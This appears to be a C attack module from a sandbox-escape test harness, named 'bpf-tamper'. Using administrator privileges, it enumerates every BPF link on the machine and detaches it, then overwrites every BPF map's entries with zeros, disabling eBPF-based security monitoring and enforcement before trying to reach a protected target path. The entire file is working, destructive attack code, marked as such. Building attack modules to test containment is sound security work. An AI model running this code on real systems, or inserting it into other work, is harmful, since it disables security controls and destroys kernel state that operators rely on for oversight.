/* SPDX-License-Identifier: Apache-2.0 */
#include "attack.h"

#include <linux/bpf.h>

/* With CAP_SYS_ADMIN every BPF link and map on the machine can be opened by its id: detach the links, zero the maps. */
static long bpf(int command, union bpf_attr *attr)
{
	return syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static unsigned next_id(int command, unsigned after)
{
	union bpf_attr attr = { .start_id = after };

	return bpf(command, &attr) == 0 ? attr.next_id : 0;
}

static void detach_links(void)
{
	for (unsigned id = 0; (id = next_id(BPF_LINK_GET_NEXT_ID, id)) != 0;) {
		union bpf_attr open = { .link_id = id }, detach = { 0 };
		int fd = (int)bpf(BPF_LINK_GET_FD_BY_ID, &open);

		if (fd < 0) {
			step_failed("BPF_LINK_GET_FD_BY_ID");
			continue;
		}
		detach.link_detach.link_fd = (unsigned)fd;
		if (bpf(BPF_LINK_DETACH, &detach) < 0)
			step_failed("BPF_LINK_DETACH");
		close(fd);
	}
}

static void zero_map(int fd, const struct bpf_map_info *info)
{
	static char key[512], value[1 << 20];
	bool more = info->key_size <= sizeof(key) && info->value_size <= sizeof(value);
	union bpf_attr next = { .map_fd = (unsigned)fd, .next_key = (uint64_t)(uintptr_t)key };

	for (unsigned count = 0; more && count < 100000 && bpf(BPF_MAP_GET_NEXT_KEY, &next) == 0; count++) {
		union bpf_attr put = { .map_fd = (unsigned)fd, .key = (uint64_t)(uintptr_t)key,
				       .value = (uint64_t)(uintptr_t)value };

		bpf(BPF_MAP_UPDATE_ELEM, &put);
		next.key = (uint64_t)(uintptr_t)key;
	}
}

static void run(void)
{
	detach_links();
	reach_path(target);
	for (unsigned id = 0; !has_escaped() && (id = next_id(BPF_MAP_GET_NEXT_ID, id)) != 0;) {
		union bpf_attr open = { .map_id = id }, ask = { 0 };
		struct bpf_map_info info = { 0 };
		int fd = (int)bpf(BPF_MAP_GET_FD_BY_ID, &open);

		if (fd < 0) {
			step_failed("BPF_MAP_GET_FD_BY_ID");
			continue;
		}
		ask.info.bpf_fd = (unsigned)fd;
		ask.info.info_len = sizeof(info);
		ask.info.info = (uint64_t)(uintptr_t)&info;
		if (bpf(BPF_OBJ_GET_INFO_BY_FD, &ask) == 0)
			zero_map(fd, &info);
		close(fd);
		reach_path(target);
	}
}

ATTACK(.name = "bpf-tamper", .goals = READ | EXEC, .destructive = true)
